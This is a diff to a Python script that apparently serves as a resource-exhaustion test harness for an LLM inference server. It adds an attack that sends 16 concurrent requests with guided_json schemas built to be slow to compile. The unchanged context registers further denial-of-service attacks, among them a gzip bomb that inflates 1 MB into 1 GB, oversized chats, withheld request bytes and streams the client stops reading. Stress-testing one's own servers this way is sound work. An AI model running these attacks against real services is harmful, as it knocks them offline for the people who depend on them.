@@ -6,6 +6,7 @@ The numbers are those of the attacks that were once seen to work. None of them m
 import asyncio
 import contextlib
 import gzip
+import itertools
 import json
 import resource
 from collections.abc import Awaitable, Callable
@@ -78,6 +79,18 @@ async def send_huge_chats(target: Target) -> None:
     await repeat(8, lambda _: post(target, head, body))
 
 
+async def ask_hostile_schemas(target: Target) -> None:
+    """Asks for answers under schemas that take too long to compile, each a new one, 16 at a time."""
+    numbers = itertools.count(9_999_991)
+
+    async def ask(_: int) -> None:
+        schema = {"type": "integer", "multipleOf": next(numbers)}
+        body = json.dumps({"model": target.model, "prompt": "x", "guided_json": schema}).encode()
+        await post(target, build_head(target, len(body)), body)
+
+    await repeat(16, ask)
+
+
 async def send_gzip(target: Target) -> None:
     """Sends 1 MB of gzip that inflates to 1 GB, four at a time, without a key."""
     body = gzip.compress(b" " * 2**30, compresslevel=9)
@@ -138,6 +151,7 @@ ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
     "many-sequences": ask_many_sequences,
     "unfinished-bodies": withhold_last_bytes,
     "huge-chats": send_huge_chats,
+    "hostile-schemas": ask_hostile_schemas,
     "gzip": send_gzip,
     "long-streams": read_all,
     "not-reading": stop_reading,
